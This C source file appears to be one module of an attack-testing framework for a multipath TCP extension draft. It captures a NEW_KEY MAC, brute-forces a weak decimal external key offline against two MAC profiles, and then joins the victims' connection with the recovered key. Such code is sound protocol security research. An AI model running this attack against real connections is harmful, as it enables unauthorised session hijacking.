/* SPDX-License-Identifier: MIT */
/*
 * AT-26: a key that people can remember, people can guess. NEW_KEY shows a MAC
 * whose only unknown is the external key (D-21): each guess costs one HMAC and
 * needs nobody's help. The guesses are decimal numbers, padded with zeroes to
 * the length that the attacker expects. With the key it joins as AT-05 does.
 */
#include "atk_join.h"
#include "atk_opts.h"
#include "atk_table.h"
#include "mpx_tcp.h"

#include <string.h>

enum { FIRST_PORT = 45000, WIDTH_MAX = 32 };

enum { DIGITS, WIDTH, GUESSES };
static const struct atk_param params[] = {
    [DIGITS] = {"digits", ATK_P_COUNT, .initial = 4, .min = 1, .max = 9},
    [WIDTH] = {"width", ATK_P_COUNT, .initial = 16, .min = 1, .max = WIDTH_MAX},
    [GUESSES] = {"guesses", ATK_P_COUNT, .initial = 1000000, .min = 1,
                 .max = UINT64_C(1000000000)},
    {.name = NULL},
};

struct state {
    struct atk_handshakes handshakes;
    struct mpx_opt_new_key tag; /* the first NEW_KEY seen */
    enum mpx_role sender;
    bool has_tag;
    struct mpx_auth_key key; /* found; a secret of its victims */
    struct atk_join join;
};

static enum atk_verdict on_segment(struct atk *a, void *state,
                                   const struct atk_segment *s, uint64_t now)
{
    struct state *st = state;
    struct mpx_opt o;

    (void)a;
    (void)now;
    atk_handshakes_note(a, &st->handshakes, s);
    if (!st->has_tag && atk_opts_find(s, MPX_SUB_NEW_KEY, &o)) {
        st->tag = o.u.new_key;
        st->sender = s->dir == 0 ? MPX_ROLE_I : MPX_ROLE_R;
        st->has_tag = true;
    }
    return ATK_PASS;
}

static size_t make_guess(const struct atk *a, uint64_t n,
                         uint8_t key[WIDTH_MAX])
{
    size_t width = (size_t)atk_param(a, WIDTH);

    for (size_t i = width; i-- > 0; n /= 10)
        key[i] = (uint8_t)('0' + n % 10);
    return width;
}

/* Both ways of making MACs of an external key are public; the bits do not tell
 * which one the victims use. */
static bool test_guess(struct state *st, const char *profile,
                       const uint8_t *guess, size_t len)
{
    uint8_t want[MPX_MAC64_LEN];

    if (!atk_handshake_key(&st->handshakes.v[0], profile, guess, len, 0,
                           &st->key))
        return false;
    mpx_auth_new_key(&st->key, st->sender, st->tag.ack, want);
    return !memcmp(want, st->tag.mac, sizeof want);
}

static bool search_key(struct atk *a, struct state *st)
{
    static const char *const ways[] = {"baerts", "hardened"};
    uint64_t space = 1;
    uint8_t guess[WIDTH_MAX];

    for (uint64_t d = 0; d < atk_param(a, DIGITS); d++)
        space *= 10;
    for (uint64_t n = 0; n < space && n < atk_param(a, GUESSES); n++) {
        size_t len = make_guess(a, n, guess);

        for (unsigned w = 0; w < 2; w++)
            if (test_guess(st, ways[w], guess, len))
                return true;
    }
    return false;
}

static void on_start(struct atk *a, void *state, uint64_t now)
{
    struct state *st = state;

    if (!st->handshakes.n || !st->has_tag || !search_key(a, st))
        return;
    atk_join_open(a, &st->join, &st->handshakes.v[0], FIRST_PORT);
    atk_join_request(a, &st->join, &st->handshakes.v[0], false, now);
}

static void on_host_segment(struct atk *a, void *state,
                            const struct atk_arrival *seg, uint64_t now)
{
    struct state *st = state;

    if (seg->flow->local_port == FIRST_PORT)
        atk_join_take_segment(a, &st->join, &st->key, seg->hdr, seg->hdr_len,
                              seg->len, now);
}

static void free_state(void *state)
{
    struct state *st = state;

    atk_tcp_free(&st->join.in.tcp);
}

const struct atk_ops atk_psk_guess = {
    .name = "guess-psk",
    .id = "AT-26",
    .does = "guesses a weak external key offline by the MAC of NEW_KEY, and "
            "joins with it",
    .source = "draft-baerts-tcpm-mptcpext-00 section 4.2, D-21",
    .powers = ATK_READ | ATK_HOST,
    .params = params,
    .state_size = sizeof(struct state),
    .on_segment = on_segment,
    .on_start = on_start,
    .on_host_segment = on_host_segment,
    .free_state = free_state,
};
